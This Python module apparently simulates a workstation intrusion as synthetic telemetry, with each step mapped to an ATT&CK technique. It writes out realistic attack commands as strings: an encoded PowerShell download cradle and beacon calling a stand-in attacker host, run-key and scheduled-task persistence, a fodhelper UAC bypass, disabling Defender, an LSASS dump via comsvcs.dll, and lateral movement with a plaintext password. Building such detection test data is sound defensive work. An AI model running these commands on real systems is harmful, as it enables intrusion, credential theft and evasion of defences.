"""The intrusion's first part, on the workstation: a mail attachment, discovery, persistence, stolen credentials.

Written for this project; no line is taken from a corpus. Each ``plans`` names what the intruder does next and the ATT&CK
techniques (Enterprise v18.1) that the events after it show.
"""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

import msgspec

from connector.demo.audit import task
from connector.demo.intruder import Intruder
from connector.demo.powershell import invoke, script
from connector.demo.programs import programs

if TYPE_CHECKING:
    from connector.demo.cast import Cast
    from connector.demo.nouns import Process

_LURE = (
    "C:\\Users\\ihalvorsen\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2RD0W\\"
    "Freight claim 88213.docm"
)
_HKU = "HKU\\S-1-5-21-2718640391-1147325508-3390175624-1613"
_HOST = "cdn.tideline-claims.example"
_ADDRESS = "203.0.113.68"
_CRADLE = f"$c=New-Object Net.WebClient;$c.Headers.Add('X-Quay','88213');IEX($c.DownloadString('https://{_HOST}:8447/q3/freight.txt'))"
_SCRIPT = "C:\\Users\\Public\\Libraries\\prnsync.ps1"
_DUMP = "C:\\Users\\Public\\Libraries\\tally.bin"
_TASK = f"""<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>
    <Author>LARKMOOR\\ihalvorsen</Author>
    <URI>\\Larkmoor Print Sync</URI>
  </RegistrationInfo>
  <Triggers>
    <TimeTrigger>
      <Repetition><Interval>PT20M</Interval></Repetition>
      <StartBoundary>2026-03-17T10:00:00</StartBoundary>
      <Enabled>true</Enabled>
    </TimeTrigger>
  </Triggers>
  <Principals>
    <Principal id="Author"><UserId>LARKMOOR\\ihalvorsen</UserId><RunLevel>LeastPrivilege</RunLevel></Principal>
  </Principals>
  <Settings><Hidden>true</Hidden><Enabled>true</Enabled></Settings>
  <Actions Context="Author">
    <Exec>
      <Command>powershell.exe</Command>
      <Arguments>-w hidden -ep bypass -f {_SCRIPT}</Arguments>
    </Exec>
  </Actions>
</Task>"""


def foothold(cast: Cast) -> None:
    """Tells the first part, from the attachment at 09:47 to the service on the file server at 10:20."""
    intruder = Intruder(cast, "ws", "09:47:12.381")
    shell = _lure(intruder)
    _stage(intruder, shell)
    _look_around(intruder, shell)
    _persist(intruder, shell)
    raised = _bypass_uac(intruder, shell)
    _blind(intruder, raised)
    _steal_credentials(intruder, raised)
    _cross_over(intruder, raised)
    intruder.plans("")


def _lure(intruder: Intruder) -> Process:
    machine = intruder.machine
    outlook = intruder.cast.running("ws", "outlook", "ihalvorsen")
    intruder.plans("A mail brings a document with macros", "T1566.001")
    machine.create(intruder.after(0), outlook, _LURE)
    intruder.plans("The user opens the document and its macro runs", "T1204.002")
    word = intruder.runs(outlook, "winword", f'"{programs()["winword"].path}" /n "{_LURE}" /o ""', wait=21)
    machine.load(intruder.after(3.4), word, programs()["vbe7"], signature="Microsoft Corporation")
    encoded = base64.b64encode(_CRADLE.encode("utf-16-le")).decode()
    intruder.plans("Word starts an encoded PowerShell cradle", "T1059.001", "T1204.002")
    return intruder.runs(word, "powershell", f"powershell.exe -nop -w 1 -sta -enc {encoded}", wait=5.1)


def _stage(intruder: Intruder, shell: Process) -> None:
    machine = intruder.machine
    intruder.plans("The cradle runs", "T1059.001")
    script(machine, intruder.after(1.2), shell, _CRADLE)
    intruder.plans("The cradle fetches its second stage", "T1105", "T1071.001")
    machine.resolve(intruder.after(0.4), shell, _HOST, f"::ffff:{_ADDRESS};")
    machine.connect(intruder.after(0.3), shell, _ADDRESS, 8447)
    intruder.plans("The second stage is stored as a script", "T1105")
    machine.create(intruder.after(2.5), shell, _SCRIPT)
    intruder.plans("The second stage beacons", "T1071.001", "T1059.001")
    script(
        machine,
        intruder.after(0.9),
        shell,
        f"while($true){{$t=Invoke-RestMethod -Uri https://{_HOST}:8447/t/$env:COMPUTERNAME -UserAgent 'QuayTally/2';"
        "if($t.j){$o=(IEX $t.j 2>&1|Out-String);Invoke-RestMethod -Method Post -Body $o "
        f"-Uri https://{_HOST}:8447/r/$($t.i)|Out-Null}};Start-Sleep -Seconds (Get-Random -Min 40 -Max 75)}}",
    )


def _look_around(intruder: Intruder, shell: Process) -> None:
    for step, technique, program, command in (
        ("Who am I, with which rights", "T1033", "whoami", '"C:\\Windows\\system32\\whoami.exe" /user /groups /priv'),
        ("Network settings", "T1016", "ipconfig", '"C:\\Windows\\system32\\ipconfig.exe" /all'),
        ("Domain controllers and trusts", "T1482", "nltest", '"C:\\Windows\\system32\\nltest.exe" /domain_trusts /v'),
        ("Domain accounts", "T1087.002", "net", '"C:\\Windows\\system32\\net.exe" user nfossum-adm /domain'),
        ("Domain groups", "T1069.002", "net", '"C:\\Windows\\system32\\net.exe" group "Domain Admins" /domain'),
        ("Machines nearby", "T1018", "net", '"C:\\Windows\\system32\\net.exe" view /domain:LARKMOOR'),
    ):
        intruder.plans(step, technique)
        child = intruder.runs(shell, program, command, wait=11.7)
        if program == "net":
            intruder.runs(child, "net1", command.replace("net.exe", "net1.exe").strip('"'), wait=0.1)
    intruder.plans("Shares of the file server", "T1135")
    intruder.runs(shell, "net", '"C:\\Windows\\system32\\net.exe" view \\\\LMR-FS-02 /all', wait=14)


def _persist(intruder: Intruder, shell: Process) -> None:
    machine = intruder.machine
    launch = f"powershell.exe -w hidden -ep bypass -f {_SCRIPT}"
    intruder.plans("A run key starts the script at log-on", "T1547.001")
    key = f"{_HKU}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\PrintSync"
    adding = intruder.runs(
        shell,
        "reg",
        '"C:\\Windows\\system32\\reg.exe" add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v PrintSync '
        f'/d "{launch}" /f',
        wait=38,
    )
    machine.set_value(intruder.after(0.1), adding, key, launch)
    intruder.plans("A scheduled task starts it every twenty minutes", "T1053.005")
    intruder.runs(
        shell,
        "schtasks",
        f'"C:\\Windows\\system32\\schtasks.exe" /create /f /sc minute /mo 20 /tn "Larkmoor Print Sync" /tr "{launch}"',
        wait=17,
    )
    task(machine, intruder.after(0.2), shell.user, "\\Larkmoor Print Sync", _TASK)
    scheduler = intruder.cast.running("ws", "svchost", "system")
    machine.create(intruder.after(0.1), scheduler, "C:\\Windows\\System32\\Tasks\\Larkmoor Print Sync")


def _bypass_uac(intruder: Intruder, shell: Process) -> Process:
    machine = intruder.machine
    intruder.plans("A hijacked registry handler raises rights without a prompt", "T1548.002")
    handler = f"{_HKU}_Classes\\.tally\\Shell\\Open\\command\\(Default)"
    machine.set_value(intruder.after(45), shell, handler, f"powershell.exe -w 1 -f {_SCRIPT} -k")
    machine.set_value(intruder.after(0.2), shell, f"{_HKU}_Classes\\ms-settings\\CurVer\\(Default)", ".tally")
    high = msgspec.structs.replace(shell.user, integrity="High", logon_id="0x5b77e1")
    helper = intruder.runs(shell, "fodhelper", '"C:\\Windows\\system32\\fodhelper.exe"', wait=2.2, user=high)
    return intruder.runs(helper, "powershell", f"powershell.exe -w 1 -f {_SCRIPT} -k", wait=0.8)


def _blind(intruder: Intruder, raised: Process) -> None:
    machine = intruder.machine
    intruder.plans("Defender's real-time protection is switched off", "T1562.001")
    command = "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true -SubmitSamplesConsent 2"
    script(machine, intruder.after(30), raised, command)
    invoke(
        machine,
        intruder.after(0.3),
        raised,
        "Set-MpPreference",
        'CommandInvocation(Set-MpPreference): "Set-MpPreference"\n'
        'ParameterBinding(Set-MpPreference): name="DisableRealtimeMonitoring"; value="True"\n'
        'ParameterBinding(Set-MpPreference): name="DisableIOAVProtection"; value="True"\n'
        'ParameterBinding(Set-MpPreference): name="SubmitSamplesConsent"; value="2"\n',
    )
    provider = intruder.cast.running("ws", "wmiprvse", "system")
    machine.set_value(
        intruder.after(0.4),
        provider,
        "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring",
        "DWORD (0x00000001)",
    )


def _steal_credentials(intruder: Intruder, raised: Process) -> None:
    machine = intruder.machine
    intruder.plans("LSASS is dumped through comsvcs.dll", "T1003.001")
    lsass = intruder.cast.running("ws", "lsass", "system")
    number = f"$l=(gps lsa*s).Id;rundll32 C:\\Windows\\System32\\comsvcs.dll,#24 $l {_DUMP} full"
    script(machine, intruder.after(52), raised, number)
    dumping = intruder.runs(
        raised,
        "rundll32",
        f'"C:\\Windows\\system32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll,#24 {lsass.pid} {_DUMP} full',
        wait=0.5,
    )
    machine.access(intruder.after(0.3), dumping, lsass, "0x1fffff", "C:\\Windows\\System32\\comsvcs.dll")
    machine.create(intruder.after(0.6), dumping, _DUMP)


def _cross_over(intruder: Intruder, raised: Process) -> None:
    intruder.plans("The administrator's account opens the server's admin share", "T1021.002")
    intruder.runs(
        raised,
        "net",
        '"C:\\Windows\\system32\\net.exe" use \\\\LMR-FS-02\\ADMIN$ /user:LARKMOOR\\nfossum-adm Skerry-4471-quay',
        wait=1673.8,
    )
    intruder.plans("A tool is copied to the server", "T1570", "T1021.002")
    intruder.runs(
        raised,
        "cmd",
        '"C:\\Windows\\system32\\cmd.exe" /c copy /y C:\\Users\\Public\\Libraries\\stk.dat '
        "\\\\LMR-FS-02\\ADMIN$\\stkpolicy.exe",
        wait=9,
    )
    intruder.plans("A service on the server is to start it", "T1543.003", "T1569.002")
    intruder.runs(
        raised,
        "sc",
        '"C:\\Windows\\system32\\sc.exe" \\\\LMR-FS-02 create StkPolicy binPath= "C:\\Windows\\stkpolicy.exe -s 4471" '
        "start= auto",
        wait=7,
    )
    intruder.runs(raised, "sc", '"C:\\Windows\\system32\\sc.exe" \\\\LMR-FS-02 start StkPolicy', wait=4)
